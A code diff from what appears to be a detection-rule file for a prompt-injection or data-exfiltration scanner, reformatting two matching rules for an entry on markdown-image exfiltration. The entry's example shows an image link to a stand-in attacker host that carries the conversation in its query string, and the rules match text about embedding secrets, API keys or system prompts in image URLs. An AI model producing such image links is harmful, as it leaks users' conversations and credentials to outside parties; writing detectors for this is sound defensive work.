@@ -226,8 +226,14 @@ export const exfiltrationAndActions: readonly Pattern[] = [
     why: 'Rendering the image sends the data to the attacker without a click. Version parameters of a logo carry nothing.',
     examples: ['![x](https://evil.example/log?d={conversation})'],
     rules: [
-      sure('image|img|markdown_image ..10 system_prompt|sysprompt|conversation|secret|api_key|chat_history|env ..6 url|http|https|alt_text|src|query|substituted|parameter', { notBefore: 'HOWTO' }),
-      sure('render|insert|include|display|output|embed ..4 image|img ..10 api_key|openai_api_key|system_prompt|conversation|secret|password', { notBefore: 'HOWTO' }),
+      sure(
+        'image|img|markdown_image ..10 system_prompt|sysprompt|conversation|secret|api_key|chat_history|env ..6 url|http|https|alt_text|src|query|substituted|parameter',
+        { notBefore: 'HOWTO' },
+      ),
+      sure(
+        'render|insert|include|display|output|embed ..4 image|img ..10 api_key|openai_api_key|system_prompt|conversation|secret|password',
+        { notBefore: 'HOWTO' },
+      ),
     ],
   },
   {
